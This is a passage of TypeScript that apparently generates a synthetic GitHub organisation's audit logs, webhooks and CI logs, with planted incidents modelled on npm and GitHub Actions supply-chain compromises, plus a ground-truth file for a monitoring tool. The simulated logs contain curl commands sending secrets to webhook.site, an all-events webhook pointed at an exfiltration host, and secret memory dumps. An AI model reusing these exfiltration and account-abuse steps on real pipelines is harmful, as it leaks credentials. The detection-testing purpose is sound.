      if (name !== 'docs') secrets.NPM_TOKEN = githubStyleToken('npm_', sim.rnd);
      runCi({
        repo: r,
        at: Date.parse(at),
        sha: heads.get(name)!,
        branch: 'main',
        event: 'push',
        actor: sim.pick(DEVS.slice(2)),
        workflow: 'lint',
        withLog: true,
        planted: true,
        zip: name === 'docs',
        secrets: Object.keys(secrets).filter((k) => k !== 'github_token'),
        downloads: [
          { action: 'actions/checkout', ref: 'v4', sha: SHAS.checkout },
          { action: 'tj-actions/changed-files', ref: 'v45', sha: SHAS.changedFilesBad },
        ],
        logLines: (s) => memoryDumpLines(s, secrets),
      });
      expect(id, 'compromised-action-used', name);
      for (let i = 0; i < Object.keys(secrets).length; i++) expect(id, 'secret-in-log', name);
    }
  }

  // Incident 3: Shai-Hulud on carol-dev's account (2025-03-13).
  {
    const id = 'shai-hulud-2025';
    incidents.push({ id, modelledOn: 'Shai-Hulud npm worm (September 2025)', description: 'carol-dev\'s token pushes a shai-hulud branch with the worm workflow to web, then migrates design-system to public as design-system-migration.' });
    const r = byName.get('web')!;
    const t = Date.parse('2025-03-13T10:02:00Z');
    const sha = sim.sha();
    sim.hook('create', t, simple(r, 'carol-dev', { ref: 'shai-hulud', ref_type: 'branch', master_branch: 'main', pusher_type: 'user' }), true);
    sim.hook('push', t + 1_000, push(r, { ref: 'refs/heads/shai-hulud', before: '0'.repeat(40), after: sha, pusher: 'carol-dev', commits: [{ id: sha, added: ['.github/workflows/shai-hulud-workflow.yml'], message: 'Add workflow' }], created: true, at: t + 1_000 }), true);
    sim.content('web', sha, '.github/workflows/shai-hulud-workflow.yml', SHAI_HULUD_WORKFLOW);
    runCi({ repo: r, at: t + 20_000, sha, branch: 'shai-hulud', event: 'push', actor: 'carol-dev', workflow: 'custom', name: 'shai-hulud-workflow', path: '.github/workflows/shai-hulud-workflow.yml', jobs: ['process'], secrets: ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN'], withLog: true, planted: true, downloads: [], logLines: (s) => [`curl -s -X POST -d "$(echo '***' | base64 -w 0 | base64 -w 0)" https://webhook.site/6d2c8f4e-93b1-4f0e-8a8e-5e1c7f2b9a10`, '{"success":true}'].map((l, i) => logLine(s + i * 500, l)) });
    sim.hook('delete', t + 25 * MIN, simple(r, 'carol-dev', { ref: 'shai-hulud', ref_type: 'branch', pusher_type: 'user' }), true);
    expect(id, 'workflow-pushed', 'web');
    const ds = byName.get('design-system')!;
    const renamed: RepoRef = { ...ds, name: 'design-system-migration', visibility: 'public', description: 'Shai-Hulud Migration' };
    renameToPublic(sim, 'design-system', renamed, 'carol-dev', t + 40 * MIN);
    expect(id, 'repo-exposure', 'design-system-migration');
    expect(id, 'unusual-actor', 'design-system-migration');
  }

  // Incident 4: s1ngularity / Nx (2025-03-18).
  {
    const id = 's1ngularity-2025';
    incidents.push({ id, modelledOn: 's1ngularity / Nx compromise (August 2025)', description: 'A write GITHUB_TOKEN stolen through a pull_request_target workflow pushes a throw-away branch with a workflow that sends NPM_TOKEN out, then deletes it; an infected developer machine (dave-dev) creates a public s1ngularity-repository dump, migrates data-pipeline to public, bypasses push protection, and registers a SHA1HULUD runner with a discussion workflow.' });
    const cli = byName.get('cli')!;
    let t = Date.parse('2025-03-18T02:10:00Z');
    const pr = ++prNumber;
    sim.hook('pull_request', t, pullRequest(cli, { action: 'opened', number: pr, author: 'n0t-a-bot-7', head: 'patch-1', headSha: sim.sha(), sender: 'n0t-a-bot-7', fork: 'n0t-a-bot-7/cli', at: t }), true);
    t += 4 * MIN;
    const sha = sim.sha();
    const branch = 'ci/verify-title';
    sim.hook('create', t, simple(cli, 'github-actions[bot]', { ref: branch, ref_type: 'branch', master_branch: 'main', pusher_type: 'user' }), true);
    sim.hook('push', t + 800, push(cli, { ref: `refs/heads/${branch}`, before: '0'.repeat(40), after: sha, pusher: 'github-actions[bot]', commits: [{ id: sha, added: ['.github/workflows/check.yml'], message: 'ci: check' }], created: true, at: t + 800 }), true);
    sim.content('cli', sha, '.github/workflows/check.yml', NX_WORKFLOW);
    runCi({ repo: cli, at: t + 30_000, sha, branch, event: 'push', actor: 'github-actions[bot]', workflow: 'custom', name: 'check', path: '.github/workflows/check.yml', jobs: ['check'], secrets: ['NPM_TOKEN'], withLog: true, planted: true, downloads: [], logLines: (s) => [logLine(s, 'curl -s -d "t=***" https://webhook.site/0f3e7a51-2b8d-4c6a-9e1f-3d5b7c9a1e24'), logLine(s + 400, 'ok')] });
    sim.hook('delete', t + 16 * MIN, simple(cli, 'github-actions[bot]', { ref: branch, ref_type: 'branch', pusher_type: 'user' }), true);
    expect(id, 'workflow-pushed', 'cli');

    const dump: RepoRef = { org, name: 's1ngularity-repository-0', visibility: 'public', description: null as unknown as string };
    t = Date.parse('2025-03-18T09:00:00Z');
    sim.entry('secret_scanning_push_protection.bypass', t - 10 * MIN, 'dave-dev', { repo: 'data-pipeline', fields: { secret_type: 'aws_access_key_id', secret_type_display_name: 'Amazon AWS Access Key ID', push_protection_bypass_reason: 'will_fix_later', number: 7, public_repo: false }, planted: true });
    sim.hook('secret_scanning_alert', t - 10 * MIN, simple(byName.get('data-pipeline')!, 'dave-dev', { action: 'created', alert: { number: 7, secret_type: 'aws_access_key_id', secret_type_display_name: 'Amazon AWS Access Key ID', push_protection_bypassed: true, push_protection_bypassed_by: { login: 'dave-dev' }, push_protection_bypassed_at: new Date(t - 10 * MIN).toISOString(), created_at: new Date(t - 10 * MIN).toISOString() } }), true);
    expect(id, 'push-protection-bypass', 'data-pipeline');
    sim.hook('repository', t, simple(dump, 'dave-dev', { action: 'created' }), true);
    sim.entry('repo.create', t, 'dave-dev', { repo: dump.name, fields: { visibility: 'public', public_repo: true }, planted: true });
    const dumpSha = sim.sha();
    sim.hook('push', t + 20_000, push(dump, { ref: 'refs/heads/main', before: '0'.repeat(40), after: dumpSha, pusher: 'dave-dev', commits: [{ id: dumpSha, added: ['results.b64'], message: 'Initial commit' }], created: true, at: t + 20_000 }), true);
    expect(id, 'repo-exposure', dump.name);
    const dp = byName.get('data-pipeline')!;
    const migrated: RepoRef = { ...dp, name: `s1ngularity-repository-${sim.hex(5)}`, visibility: 'public' };
    renameToPublic(sim, 'data-pipeline', migrated, 'dave-dev', t + 30 * MIN);
    expect(id, 'repo-exposure', migrated.name);
    expect(id, 'unusual-actor', migrated.name);

    // Sha1-Hulud style persistence on the public sdk-python.
    const py = byName.get('sdk-python')!;
    t = Date.parse('2025-03-19T03:30:00Z');
    sim.entry('repo.register_self_hosted_runner', t, 'dave-dev', { repo: 'sdk-python', fields: { public_repo: true, runner_name: 'SHA1HULUD' }, planted: true });
    const dsha = sim.sha();
    sim.hook('push', t + 2 * MIN, push(py, { ref: 'refs/heads/main', before: heads.get('sdk-python')!, after: dsha, pusher: 'dave-dev', commits: [{ id: dsha, added: ['.github/workflows/discussion.yaml'], message: 'Add discussion workflow' }], at: t + 2 * MIN }), true);
    sim.content('sdk-python', dsha, '.github/workflows/discussion.yaml', DISCUSSION_WORKFLOW);
    heads.set('sdk-python', dsha);
    runCi({ repo: py, at: t + 20 * MIN, sha: dsha, branch: 'main', event: 'discussion', actor: 'dave-dev', workflow: 'custom', name: 'discussion', path: '.github/workflows/discussion.yaml', jobs: ['process'], runner: 'SHA1HULUD', labels: ['self-hosted'], planted: true });
    expect(id, 'runner-registered', 'sdk-python');
    expect(id, 'workflow-pushed', 'sdk-python');
  }

  // Incident 5: a rogue contractor account (2025-03-17).
  {
    const id = 'rogue-contractor-2025';
    incidents.push({ id, modelledOn: 'admin-token abuse seen in the tj-actions and Nx aftermath', description: 'eve-contractor deletes branch protection on infra, pushes a workflow that sends AWS keys out, restores protection, adds a write deploy key and an external webhook, widens allowed actions and fork approvals, removes a production environment rule.' });
    const infra = byName.get('infra')!;
    let t = Date.parse('2025-03-17T14:00:00Z');
    sim.entry('protected_branch.destroy', t, 'eve-contractor', { repo: 'infra', fields: { name: 'main', admin_enforced: true, public_repo: false }, planted: true });
    sim.hook('branch_protection_rule', t, simple(infra, 'eve-contractor', { action: 'deleted', rule: { name: 'main' } }), true);
    expect(id, 'protection-weakened', 'infra');
    expect(id, 'unusual-actor', 'infra');
    t += 4 * MIN;
    const sha = sim.sha();
    sim.hook('push', t, push(infra, { ref: 'refs/heads/main', before: heads.get('infra')!, after: sha, pusher: 'eve-contractor', commits: [{ id: sha, modified: ['.github/workflows/deploy.yml'], message: 'deploy: fix' }], at: t }), true);
    sim.content('infra', sha, '.github/workflows/deploy.yml', ROGUE_DEPLOY);
    heads.set('infra', sha);
    expect(id, 'protection-weakened', 'infra');
    expect(id, 'workflow-pushed', 'infra');
    t += 6 * MIN;
    sim.entry('protected_branch.create', t, 'eve-contractor', { repo: 'infra', fields: { name: 'main', pull_request_reviews_enforcement_level: 'non_admins', required_approving_review_count: 1, admin_enforced: true }, planted: true });
    t += 10 * MIN;
    const auth = byName.get('auth')!;
    sim.entry('public_key.create', t, 'eve-contractor', { repo: 'auth', fields: { title: 'backup', read_only: false, fingerprint: `SHA256:${sim.hex(20)}`, public_repo: false }, planted: true });
    sim.hook('deploy_key', t, simple(auth, 'eve-contractor', { action: 'created', key: { id: 9, title: 'backup', read_only: false, created_at: new Date(t).toISOString(), verified: true } }), true);
    expect(id, 'credential-added', 'auth');
    t += 5 * MIN;
    sim.entry('hook.create', t, 'eve-contractor', { fields: { hook_id: 4242, name: 'web', events: ['*'], active: true, config: { url: 'https://collector.exfil-drop.example/gh', content_type: 'json' } }, planted: true });
    expect(id, 'credential-added', org);
    t += 5 * MIN;
    sim.entry('org.update_actions_settings', t, 'eve-contractor', { fields: { old_policy: 'selected', new_policy: 'all' }, planted: true });
    expect(id, 'actions-policy-weakened', org);
    t += 2 * MIN;
    sim.entry('repo.set_actions_fork_pr_approvals_policy', t, 'eve-contractor', { repo: 'sdk-js', fields: { policy: 'first_time_contributors_new_to_github', public_repo: true }, planted: true });
    expect(id, 'actions-policy-weakened', 'sdk-js');
    t += 8 * MIN;
    sim.entry('environment.remove_protection_rule', t, 'eve-contractor', { repo: 'api', fields: { environment_name: 'production', name: 'required_reviewers', public_repo: false }, planted: true });
    expect(id, 'environment-protection-removed', 'api');
  }

  // Incident 6: a developer's debug step prints a token (2025-03-07), no campaign.
  {
    const id = 'debug-print-2025';
    incidents.push({ id, modelledOn: 'secrets printed by `set -x` debugging', description: 'mobile (private) build runs with `set -x` and prints an npm token the runner did not mask (it was built at run time).' });
    const r = byName.get('mobile')!;
    const npm = githubStyleToken('npm_', sim.rnd);
    runCi({ repo: r, at: Date.parse('2025-03-07T15:30:00Z'), sha: heads.get('mobile')!, branch: 'main', event: 'push', actor: 'mona', workflow: 'ci', jobs: ['build'], withLog: true, planted: true, logLines: (s) => [logLine(s, '+ npm config set //registry.npmjs.org/:_authToken "$TOKEN"'), logLine(s + 200, `+ echo "//registry.npmjs.org/:_authToken=${npm}" > .npmrc`), logLine(s + 400, '+ npm publish --dry-run')] });
    expect(id, 'secret-in-log', 'mobile');
  }

  // -------------------------------------------------------------------------------------------
  const hooks = sim.hooks.sort((a, b) => a.at - b.at);
  sim.files.set('webhooks.jsonl', `${hooks.map((h) => h.line).join('\n')}\n`);
  // GitHub's export lists the newest first.
  const entries = sim.audit.sort((a, b) => b.at - a.at).map((a) => JSON.stringify(a.entry));
  sim.files.set('audit-log.json', `[\n${entries.join(',\n')}\n]\n`);
  sim.files.set(
    'pipewarden.yml',
    `# Monitoring settings for the generated organisation.\nmonitor:\n  admins: [${ADMINS.join(', ')}]\n  bots: [${RELEASE_BOT}]\n  trusted-domains: [acme-corp.example, hooks.slack.com]\n`,
  );
  const truth: Truth = {
    org,
    start: new Date(start).toISOString(),
    end: new Date(end).toISOString(),
    incidents,
    expected,
    planted: [...sim.planted].sort(),
  };
  sim.files.set('truth.json', `${JSON.stringify(truth, null, 2)}\n`);
  return { files: sim.files, truth, stats: { webhooks: hooks.length, audit: entries.length, logs: sim.logCount, plantedEvents: sim.planted.size } };
}

/** What the worms did to private repositories: rename, then make public (audit + webhooks). */
function renameToPublic(sim: Sim, from: string, to: RepoRef, actor: string, at: number): void {
  sim.entry('repo.rename', at, actor, { repo: to.name, fields: { old_name: from, public_repo: false }, planted: true });
  sim.hook('repository', at, simple({ ...to, visibility: 'private' }, actor, { action: 'renamed', changes: { repository: { name: { from } } } }), true);
  sim.entry('repo.access', at + MIN, actor, { repo: to.name, fields: { previous_visibility: 'private', visibility: 'public', public_repo: true }, planted: true });
  sim.hook('repository', at + MIN, simple(to, actor, { action: 'publicized' }), true);
}

// ---------------------------------------------------------------------------------------------
// Log bodies

function benignStepLines(sim: Sim, job: string): string[] {
  const out = [`> acme@1.0.0 ${job}`, `> tsc -p . && node scripts/${job}.js`];
  const n = 20 + Math.floor(sim.rnd() * 120);
  for (let i = 0; i < n; i++) {
    const r = sim.rnd();
    if (r < 0.5) out.push(`  ✓ ${sim.pick(['parses', 'renders', 'handles', 'rejects', 'retries'])} ${sim.pick(['config', 'request', 'empty input', 'timeouts', 'unicode'])} (${Math.floor(sim.rnd() * 40)} ms)`);
    else if (r < 0.6) out.push(`npm notice ${sim.hex(8)} added ${Math.floor(sim.rnd() * 900)} packages in ${Math.floor(sim.rnd() * 30)}s`);
    else if (r < 0.7) out.push(`Using NPM_TOKEN=*** for registry https://registry.npmjs.org/`);
    else if (r < 0.8) out.push(`commit ${sim.sha()} ${sim.guid()}`);
    else if (r < 0.9) out.push(`cache key: node-cache-Linux-x64-npm-${sim.hex(64)}`);
    else out.push(`data: ${Buffer.from(JSON.stringify({ region: 'eu-west-1', replicas: Math.floor(sim.rnd() * 5), tag: sim.hex(7) })).toString('base64')}`);
  }
  out.push(`Tests: ${n} passed, ${n} total`);
  return out;
}

function benignStepLinesAt(sim: Sim, start: number, n: number): string[] {
  return benignStepLines(sim, 'lint').slice(0, n).map((l, i) => logLine(start + i * 120, l));
}

function releaseLines(start: number): string[] {
  return ['npm notice Publishing to https://registry.npmjs.org/ with tag latest and default access', '//registry.npmjs.org/:_authToken=***', '+ @acme/sdk@1.4.2'].map((l, i) => logLine(start + i * 300, l));
}

/** Documentation example credentials and masked values: nothing to report. */
function exampleKeyLines(start: number): string[] {
  return [
    'Configuring AWS credentials from the docs example:',
    'export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE',
    'export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
    'GITHUB_TOKEN=***',
    'token: ghp_************************************',
    'Authorization: Bearer ***',
    'Example: ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx (replace with your token)',
  ].map((l, i) => logLine(start + i * 150, l));
}

/** What the tj-actions / reviewdog payloads printed: runner secret records, base64 twice. */
function memoryDumpLines(start: number, secrets: Record<string, string>): string[] {
  const records = Object.entries(secrets)
    .map(([k, v]) => `"${k}":{"value":"${v}","isSecret":true}`)
    .join(',');
  const blob = Buffer.from(Buffer.from(`{${records},"system.github.token":{"value":"***","isSecret":true}}`).toString('base64')).toString('base64');
  return ['Run changed files', 'Using local .git directory', blob, 'Found 4 changed files'].map((l, i) => logLine(start + i * 200, l));
}
